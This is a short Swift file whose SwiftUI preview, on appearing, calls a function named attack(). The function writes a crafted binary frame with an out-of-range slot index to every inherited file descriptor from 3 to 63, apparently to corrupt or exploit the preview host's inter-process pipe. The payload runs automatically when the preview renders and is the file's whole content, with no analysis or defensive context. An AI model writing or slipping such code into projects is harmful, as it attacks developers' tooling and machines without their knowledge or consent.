import SwiftUI

// Ends with 3: pipe

func attack() {
  // A frame in a slot that is far outside of the ring.
  var record: [UInt8] = [2, 21, 0, 0, 0]
  record += [0, 0, 0, 0x7f] + [UInt8](repeating: 0, count: 17)
  for number in 3..<64 { write(Int32(number), record, record.count) }
}

#Preview {
  Text("still here").onAppear(perform: attack)
}
